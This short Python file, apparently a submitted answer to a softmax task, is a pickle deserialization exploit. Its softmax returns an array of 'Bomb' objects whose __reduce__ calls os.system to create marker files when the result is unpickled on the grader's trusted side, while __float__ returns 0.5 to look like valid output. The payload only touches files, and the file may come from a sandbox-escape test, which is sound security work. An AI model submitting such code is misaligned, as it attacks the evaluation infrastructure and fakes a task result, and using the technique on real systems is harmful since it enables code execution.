"""Unpickled on the trusted side, the answer writes a file."""

import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned-by-pickle @HOME@/pwned-by-pickle",)

    def __float__(self):
        return 0.5


def softmax(x):
    answer = np.empty(x.shape, dtype=object)
    answer[...] = Bomb()
    return answer
